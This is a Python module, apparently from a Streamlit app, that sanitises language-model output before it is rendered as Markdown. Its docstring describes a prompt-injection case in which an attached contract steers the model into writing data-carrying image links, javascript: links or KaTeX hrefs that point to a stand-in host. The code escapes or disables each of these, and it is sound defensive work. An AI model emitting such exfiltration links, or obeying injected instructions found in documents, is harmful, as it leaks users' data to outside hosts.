"""Make model-written text safe to render as Markdown: nothing in it can make the browser fetch or run anything.

A reply steered by a prompt injection (say, inside an attached contract) could write
`![x](https://host/?q=<data>)`, raw `<img src=...>`, a `javascript:` link or a KaTeX `\\href`. Streamlit
renders Markdown in st.markdown, captions, alerts, expander and button labels, so every place that
shows model-derived text passes it through `safe_llm_markdown` (pages/ui/shell/render.py) first
:

- raw HTML is escaped (`<` becomes `&lt;`), which also disables `<https://...>` autolinks;
- images are never loaded: `![alt](url)` becomes the text 「画像: alt（host）」;
- links become text with their host, `[label](https://evil.example/x)` -> 「label（evil.example）」;
  `javascript:`, `data:`, `vbscript:` and `file:` links are removed (「label（リンク削除）」);
- reference definitions (`[1]: http://...`) become text, so `![x][1]` has nothing to load;
- any bracket left is escaped, so no other link or image syntax can form (nested labels and the like);
- bare URLs stay readable but are not auto-linked (a zero-width space after the scheme);
- `$` is escaped so no KaTeX runs.

Code blocks and inline code are left as they are: Markdown shows them literally. The function is
idempotent and linear in the text's length.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

ZWSP = "\u200b"
_BLOCKED_SCHEMES = ("javascript", "data", "vbscript", "file")

_FENCE = re.compile(r"^[ \t]{0,3}(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]{0,3}\1[ \t]*$|\Z)", re.M | re.S)
_INLINE_CODE = re.compile(r"``[^\n]+?``|`[^`\n]+`")
# [label](url "title") and ![alt](url): label without brackets, url without spaces or parentheses
_LINK = re.compile(
    r"(!?)\[([^\[\]\n]*)\]\(\s*<?((?:[^()\s<>]|\([^()\s<>]*\))*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)"
)
_REF_DEFINITION = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S*?)>?(?:[ \t]+[^\n]*)?$", re.M)
_BARE_URL = re.compile(r"(?i)\b(https?|ftps?|mailto|wss?)(:)(?!\u200b)(//)?")
# a bracket after an even number of backslashes (none, or escaped backslashes) is live Markdown
_BRACKET = re.compile(r"(?<!\\)((?:\\\\)*)([\[\]])")
_WWW = re.compile(r"(?i)\bwww\.")
_DOLLAR = re.compile(r"(?<!\\)\$")


def link_host(url: str) -> str | None:
    """The host a URL points at (None for relative URLs and unparsable ones)."""
    try:
        return urlsplit(url.strip()).hostname
    except ValueError:
        return None


def _is_blocked(url: str) -> bool:
    scheme = url.strip().split(":", 1)[0].lower() if ":" in url else ""
    return scheme.strip() in _BLOCKED_SCHEMES


def _link_text(match: re.Match[str]) -> str:
    image, label, url = match.group(1), match.group(2).strip(), match.group(3)
    where = "リンク削除" if _is_blocked(url) else link_host(url) or ""
    label = f"画像: {label or 'リンク'}" if image else (label or "リンク")
    return f"{label}（{where}）" if where else label


_SCHEME = re.compile(r"(?i)\b(javascript|vbscript|data):")


def _definition_text(match: re.Match[str]) -> str:
    url = match.group(2)
    where = "リンク削除" if _is_blocked(url) else (link_host(url) or "")
    return f"\\[{match.group(1)}\\]: {where}"


def _safe_prose(text: str) -> str:
    """Everything but code: links and images to text, HTML escaped, autolinks and math disabled."""
    text = text.replace("<", "&lt;")
    while True:  # "[![a](b)](c)": the inner image first, then the link around it
        out = _LINK.sub(_link_text, text)
        if out == text:
            break
        text = out
    text = _REF_DEFINITION.sub(_definition_text, text)
    # what is left cannot form a link or image: "[a [b]](x)" and the like
    text = _BRACKET.sub(r"\1\\\2", text)
    text = _BARE_URL.sub(lambda m: m.group(1) + m.group(2) + ZWSP + (m.group(3) or ""), text)
    text = _WWW.sub(lambda m: m.group(0)[:3] + ZWSP + ".", text)
    text = _SCHEME.sub(lambda m: m.group(1) + ZWSP + ":", text)  # a scheme left over (a label cut mid-link)
    return _DOLLAR.sub(r"\\$", text)


def _safe_outside_inline_code(text: str) -> str:
    out: list[str] = []
    last = 0
    for match in _INLINE_CODE.finditer(text):
        out.append(_safe_prose(text[last : match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(_safe_prose(text[last:]))
    return "".join(out)


def safe_llm_markdown(text: str) -> str:
    """Model-written text as Markdown that renders without loading, linking to or running anything."""
    if not text:
        return ""
    out: list[str] = []
    last = 0
    for match in _FENCE.finditer(text):
        out.append(_safe_outside_inline_code(text[last : match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(_safe_outside_inline_code(text[last:]))
    return "".join(out)


def safe_plain(text: str, max_chars: int | None = None) -> str:
    """Model-written text for a one-line label (buttons, expanders, options): safe, on one line, capped."""
    line = " ".join(str(text).split())
    if max_chars is not None and len(line) > max_chars:
        line = line[: max_chars - 1] + "…"
    return safe_llm_markdown(line)
